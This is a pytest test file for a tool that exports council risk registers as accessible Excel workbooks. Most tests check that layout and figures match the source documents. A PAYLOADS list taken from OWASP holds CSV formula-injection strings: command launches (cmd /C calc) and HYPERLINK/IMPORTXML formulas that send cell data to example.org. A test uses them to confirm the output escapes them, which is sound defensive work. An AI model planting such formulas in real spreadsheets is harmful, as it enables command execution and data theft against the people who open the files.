"""The accessible edition: what its worksheets hold, as an independent reader finds it.

Expected figures are those of the source documents, written down by hand.
"""

import io
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from riskbook import app
from riskbook.app import Outcome
from riskbook.core.accessible.sheet import Column, Table, sheet_name
from riskbook.core.profile import build
from riskbook.edge import accessible
from riskbook.edge.exporting.controls import Source
from riskbook.edge.leaks import check
from riskbook.edge.xlsx.package import Package
from riskbook.errors import LeakError
from tests.edge.office import saved_again
from tests.spec.invented import Council, councils
from tests.spec.office import complaints
from tests.support import JUDGE, MemoryBook, looked, sample

NAMES = ("blackpool-2021", "dacorum-2017", "dacorum-2021")
PAYLOADS = (  # after OWASP, CSV Injection
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://example.org?leak="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    "\uff1d1+1",
    "'=1+1",
)


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def outcome_of(name: str) -> Outcome:
    return looked(sample(name))


@pytest.fixture(scope="module")
def books() -> dict[str, Any]:
    """The accessible workbook of each sample, as openpyxl reads it."""
    return {name: opened(accessible.render(outcome_of(name))) for name in NAMES}


def table(book: Any, sheet: str) -> list[tuple[Any, ...]]:
    """Headings and rows of the one table of a worksheet."""
    (found,) = book[sheet].tables.values()
    return [tuple(cell.value for cell in row) for row in book[sheet][found.ref]]


def column(book: Any, sheet: str, heading: str) -> list[Any]:
    headings, *rows = table(book, sheet)
    place = [re.sub(r" \[note.*", "", h) for h in headings].index(heading)
    return [row[place] for row in rows]


def prose(book: Any, sheet: str) -> list[str]:
    (found,) = book[sheet].tables.values()
    top = int(re.findall(r"\d+", found.ref)[0])
    return [book[sheet].cell(row, 1).value for row in range(1, top)]


def test_dacorum_s_worksheets_are_a_cover_the_contents_the_notes_and_a_table_each(
    books: dict[str, Any],
) -> None:
    assert books["dacorum-2021"].sheetnames == [
        *("Cover", "Contents", "Notes", "By RAG", "Score totals", "By Risk Owner"),
        *("By Service", "Risks", "Scores", "Scales", "Bands", "Matrix", "Remarks"),
    ]


def test_blackpool_has_weights_an_overall_and_actions_as_well(books: dict[str, Any]) -> None:
    assert books["blackpool-2021"].sheetnames == [
        *("Cover", "Contents", "Notes", "By Rating", "By Risk Owner"),
        *("By Council Priority", "Action states", "Risks", "Scores", "Weighting", "Overall"),
        *("Actions", "Scales", "Bands", "Matrix", "Remarks"),
    ]


def test_the_counts_are_those_of_the_report(books: dict[str, Any]) -> None:
    assert table(books["dacorum-2021"], "By RAG") == [
        ("RAG [note 1]", "Inherent, number of risks", "Mitigated, number of risks"),
        ("Red", 7, 0),
        ("Amber", 1, 7),
        ("Green", 0, 1),
        ("Not scored", 0, 0),
        ("Total", 8, 8),
    ]
    assert table(books["dacorum-2021"], "Score totals")[1:] == [
        ("Inherent", 8, 0, 92, 11.5),
        ("Mitigated", 8, 0, 60, 7.5),
    ]


def test_the_weights_and_the_overall_are_those_of_the_register(books: dict[str, Any]) -> None:
    book = books["blackpool-2021"]
    assert column(book, "Weighting", "Overall Weighting") == [0.4, 0.15, 0.15, 0.3]
    assert column(book, "Weighting", "Nett contribution") == [8, 2.25, 2.25, 6]
    assert column(book, "Overall", "Overall Risk Score") == [25, 18.5]
    assert column(book, "Overall", "How it comes about: weight times score") == [
        "0.40 x 25 + 0.15 x 25 + 0.15 x 25 + 0.30 x 25 = 25",
        "0.40 x 20 + 0.15 x 15 + 0.15 x 15 + 0.30 x 20 = 18.5",
    ]


def test_a_month_is_kept_as_typed_beside_its_last_day(books: dict[str, Any]) -> None:
    book = books["blackpool-2021"]
    typed = column(book, "Actions", "Revised Target Date")
    meant = column(book, "Actions", "Revised Target Date, last day")
    shown = {
        (t, d if isinstance(d, str) else d.date().isoformat())
        for t, d in zip(typed, meant, strict=True)
    }
    assert shown == {("March 2022", "2022-03-31"), ("[x]", "[x]")}


@pytest.mark.parametrize("name", NAMES)
def test_every_entry_of_the_register_is_there_as_typed(name: str, books: dict[str, Any]) -> None:
    held = {
        re.sub(r"\s+", " ", str(cell.value).replace("\u2022", "\uf0b7"))
        for sheet in ("Risks", "Actions", "Scores")
        if sheet in books[name].sheetnames
        for row in books[name][sheet].iter_rows()
        for cell in row
    }
    document = sample(name)
    for line in (*document["risks"], *document.get("actions", ())):
        for field, value in line.items():
            if isinstance(value, str) and not value.endswith("%") and field != "scores":
                assert re.sub(r"\s+", " ", value.strip()) in {text.strip() for text in held}, field


def test_the_levels_are_said_with_their_words(books: dict[str, Any]) -> None:
    rows = [row for row in table(books["dacorum-2021"], "Scores") if row[0] == "PP_R011"]
    assert [row[2:] for row in rows] == [
        ("Inherent", "3 High", "4 Severe", 12, "Red"),
        ("Mitigated", "2 Medium", "4 Severe", 8, "Amber"),
    ]


def test_a_shared_owner_counts_for_each_and_the_sheet_says_so(books: dict[str, Any]) -> None:
    headings, *rows = table(books["blackpool-2021"], "By Risk Owner")
    assert headings[:2] == ("Risk Owner", "Number of sub-risks [note 2]")
    assert [row[:2] for row in rows] == [
        ("Chief Executive", 2),
        ("Director of Children's Services", 1),
        ("Director of Community and Environmental Services", 2),
        ("Director of Resources", 3),
    ]
    said = prose(books["blackpool-2021"], "By Risk Owner")
    assert "The numbers add up to 8, as some of the 4 sub-risks are shared." in said


def test_what_is_not_there_says_why() -> None:
    document = sample("dacorum-2021")
    first = {k: v for k, v in document["risks"][0].items() if k not in ("nett_impact", "owner")}
    document["risks"] = [first]
    book = opened(accessible.render(looked(document)))
    assert column(book, "Scores", "Risk Score") == [12, "[x]"]
    assert column(book, "Scores", "RAG") == ["Red", "[x]"]
    assert column(book, "Scores", "Probability level") == ["3 High", "2"]
    assert column(book, "Score totals", "Risk Score, mean") == [12, "[z]"]
    assert column(book, "By Risk Owner", "Risk Owner") == ["[x]", "Total"]
    meanings = [text for text in prose(book, "Score totals") if text.startswith("[")]
    assert meanings == ["[z] means not applicable."]


def test_notes_are_numbered_in_the_order_in_which_they_are_named(books: dict[str, Any]) -> None:
    notes = table(books["dacorum-2021"], "Notes")
    assert [row[0] for row in notes[1:]] == [f"[note {n}]" for n in range(1, 5)]
    assert notes[2][1] == (
        "Risk Score is Probability multiplied by Impact, each as the number of its level."
    )
    named = {
        marker
        for sheet in books["dacorum-2021"]
        if sheet.title not in ("Notes", "Cover")
        for row in sheet.iter_rows()
        for cell in row
        for marker in re.findall(r"\[note \d+\]", str(cell.value))
    }
    assert named == {row[0] for row in notes[1:]}


def test_the_cover_says_whose_register_it_is_of_which_day_and_from_which_file() -> None:
    source = Source.of("Register.xlsx", b"bytes")
    book = opened(accessible.render(outcome_of("dacorum-2021"), source=source))
    lines = [cell.value for (cell,) in book["Cover"].iter_rows()]
    assert lines[:4] == [
        *("Quarter 1 Operational Risk Report", "Dacorum Borough Council", "Jun-2021"),
        "Position as at 30 June 2021.",
    ]
    assert "8 risks. Inherent: 7 Red and 1 Amber. Mitigated: 7 Amber and 1 Green." in lines
    digest = "277089d91c0bdf4f2e6862ba7e4a07605119431f5d13f726dd352b06f1b206a9"
    assert f"From the file Register.xlsx, whose SHA-256 is {digest}." in lines
    assert book.properties.title == "Quarter 1 Operational Risk Report"
    assert (book.properties.language, book.properties.creator) == (
        "en-GB",
        "Dacorum Borough Council",
    )


def test_the_contents_lead_to_every_worksheet(books: dict[str, Any]) -> None:
    for book in books.values():
        sheet = book["Contents"]
        led = [cell.hyperlink.location for cell in sheet["A"] if cell.hyperlink]
        assert led == [
            f"'{name}'!A1" for name in book.sheetnames if name not in ("Cover", "Contents")
        ]


def test_the_public_edition_says_what_it_withholds_and_explains_the_mark() -> None:
    document = sample("dacorum-2021")
    document["risks"][0] |= {"exempt": "Risk Owner", "exempt_reason": "Paragraph 3"}
    document["risks"][1] |= {"exempt": "Yes", "exempt_reason": "Paragraph 3"}
    outcome = app.public(looked(document))
    data = accessible.render(outcome)
    book = opened(data)
    assert len(table(book, "Risks")) == 1 + 7
    assert column(book, "Risks", "Risk Owner")[0] == "[withheld]"
    assert "[withheld] means withheld: exempt from publication." in prose(book, "Risks")
    lines = [cell.value for (cell,) in book["Cover"].iter_rows()]
    assert outcome.withheld in lines
    assert not any("Checks:" in line for line in lines)
    failed = [line for line in accessible.checklist(data) if line.passed is False]
    assert failed == []


def test_a_leak_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    document = sample("dacorum-2021")
    document["risks"][1] |= {"exempt": "Yes", "exempt_reason": "Paragraph 3"}
    full = looked(document)
    outcome = app.public(full)
    made = accessible.write(outcome, "Register", tmp_path / "out")
    assert [path.name for path in made] == [
        "Register accessible.xlsx",
        "Register accessible checklist.csv",
    ]
    assert outcome.hidden is not None
    assert check(made[0].read_bytes(), "xlsx", outcome.hidden.secrets) == []
    leaking = replace(outcome, reading=full.reading, scores=full.scores, summary=full.summary)
    with pytest.raises(LeakError, match="which is withheld"):
        accessible.write(leaking, "Register", tmp_path / "leak")
    assert not (tmp_path / "leak").exists()


@pytest.mark.parametrize("name", NAMES)
def test_the_same_register_gives_the_same_bytes(name: str) -> None:
    assert accessible.render(outcome_of(name)) == accessible.render(outcome_of(name))


@pytest.mark.parametrize("name", NAMES)
def test_checkers_of_excel_s_format_have_nothing_to_say(name: str, tmp_path: Any) -> None:
    assert complaints(accessible.render(outcome_of(name)), tmp_path) == []


def poisoned() -> bytes:
    document = sample("dacorum-2021")
    for place, risk in enumerate(document["risks"]):
        text = PAYLOADS[place % len(PAYLOADS)]
        risk |= {"title": text, "owner": text, "update": PAYLOADS[-1 - place % len(PAYLOADS)]}
    document["about"] |= {"title": "=1+1", "notes": list(PAYLOADS), "introduction": "=2+2"}
    document["about"]["organisation"] = "@SUM(1)"
    return accessible.render(looked(document))


def test_no_text_is_a_formula_and_each_that_could_be_is_kept_a_text() -> None:
    data = poisoned()
    texts = 0
    for sheet in opened(data):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "d")
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\uff1d":
                    texts += 1
                    assert cell.quotePrefix, cell.coordinate
    assert texts > 30
    lines = {line.number: line for line in accessible.checklist(data)}
    assert lines["riskbook 5"].passed, lines["riskbook 5"].where


@pytest.mark.office
def test_libreoffice_opens_it_and_finds_no_formula(tmp_path: Any) -> None:
    again = saved_again(poisoned(), tmp_path)
    package = Package.parse(again)
    sheets = [name for name in package.names if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 13
    assert [name for name in sheets if b"<f" in package.part(name).replace(b"<fo", b"")] == []
    book = opened(again)
    assert table(book, "By RAG")[1] == ("Red", 7, 0)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=60), min_size=3))
def test_any_words_at_all_give_a_workbook_that_keeps_its_shape(words: list[str]) -> None:
    document = sample("dacorum-2021")
    risk = {**document["risks"][0], "title": words[0], "owner": words[1], "update": words[2]}
    document["risks"] = [{k: v for k, v in risk.items() if v not in ("",)}]
    document["about"]["title"] = words[0]
    lines = {
        line.number: line for line in accessible.checklist(accessible.render(looked(document)))
    }
    for number in ("Tables 1", "Tables 3", "Tables 4", "Tables 5", "Tables 6", "Structure 3"):
        assert lines[number].passed, (number, lines[number].where)
    for number in ("Formatting 2", "Structure 4", "Structure 5", "riskbook 3", "riskbook 5"):
        assert lines[number].passed, (number, lines[number].where)


OF_ENTRIES = {
    "Formatting 5",
    "riskbook 4",
    "Tables 10",
    "Footnotes 1",
    "Footnotes 2",
    "Footnotes 3",
}


@settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck))
@given(councils())
def test_any_council_s_edition_passes_every_line_but_for_what_its_entries_fail(
    council: Council,
) -> None:
    profile = build(council.profile)
    book = MemoryBook.of(profile, council.register)
    data = accessible.render(app.check(book, profile, None, JUDGE))
    failed = {
        line.number: line.where for line in accessible.checklist(data) if line.passed is False
    }
    assert {number: failed[number] for number in failed.keys() - OF_ENTRIES} == {}


def test_a_sheet_gets_a_name_that_excel_takes_and_that_is_free() -> None:
    assert sheet_name("By Service / Team [x]: 'all'") == "By Service Team x all"
    assert sheet_name("By the Directorate that is responsible") == "By the Directorate that is resp"
    assert sheet_name("Risks", ["risks"]) == "Risks 2"


def test_a_table_with_an_empty_cell_or_two_equal_headings_cannot_be_made() -> None:
    columns = (Column(heading="Ref"), Column(heading="Risk"))
    with pytest.raises(ValueError, match="an empty cell"):
        Table(name="risks", columns=columns, rows=(("R1", " "),))
    with pytest.raises(ValueError, match="headings that are the same"):
        Table(name="risks", columns=(columns[0], columns[0]), rows=(("R1", "x"),))
    with pytest.raises(ValueError, match="rows of 2 values"):
        Table(name="risks", columns=columns, rows=())
